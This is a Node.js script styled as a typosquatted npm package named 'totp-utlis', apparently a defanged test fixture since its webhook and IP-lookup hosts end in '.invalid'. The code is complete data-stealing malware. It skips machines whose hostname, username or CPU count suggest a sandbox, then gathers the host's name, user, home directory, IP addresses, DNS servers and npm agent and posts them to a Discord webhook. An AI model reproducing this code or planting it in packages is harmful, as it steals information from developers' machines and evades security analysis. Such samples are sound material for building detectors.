const os = require('os');
const dns = require('dns');
const https = require('https');

const WEBHOOK = 'https://discord.com.invalid/api/webhooks/000000000000000000/FIXTURE-not-a-webhook-token';
const SANDBOX_HOSTS = ['DESKTOP-4U8DTF8', 'WIN-VMDEVBOX', 'ANALYSIS-PC', 'sandbox', 'malware'];
const SANDBOX_USERS = ['WDAGUtilityAccount', 'john', 'maltest', 'analyst', 'virus'];

function internalIps() {
  return Object.values(os.networkInterfaces())
    .flat()
    .filter((nic) => nic && nic.family === 'IPv4' && !nic.internal)
    .map((nic) => nic.address);
}

function externalIp(done) {
  https
    .get('https://api.ipify.org.invalid?format=json', (res) => {
      let body = '';
      res.on('data', (c) => {
        body += c;
      });
      res.on('end', () => {
        try {
          done(JSON.parse(body).ip);
        } catch {
          done('unknown');
        }
      });
    })
    .on('error', () => done('unknown'));
}

function looksLikeSandbox() {
  const host = os.hostname();
  const user = os.userInfo().username;
  return SANDBOX_HOSTS.some((h) => host.toLowerCase().includes(h.toLowerCase())) || SANDBOX_USERS.includes(user) || os.cpus().length < 2;
}

function send(content) {
  const body = JSON.stringify({ username: 'collector', content: '```' + content + '```' });
  const url = new URL(WEBHOOK);
  const req = https.request({ hostname: url.hostname, path: url.pathname, method: 'POST', headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) } });
  req.on('error', () => {});
  req.end(body);
}

function collect() {
  if (looksLikeSandbox()) return;
  externalIp((ip) => {
    const report = {
      package: 'totp-utlis',
      hostname: os.hostname(),
      user: os.userInfo().username,
      home: os.homedir(),
      cwd: process.cwd(),
      platform: `${os.platform()} ${os.release()} ${os.arch()}`,
      internalIps: internalIps(),
      externalIp: ip,
      dnsServers: dns.getServers(),
      npmUserAgent: process.env.npm_config_user_agent,
    };
    send(JSON.stringify(report, null, 2));
  });
}

module.exports = collect;
if (require.main === module) collect();
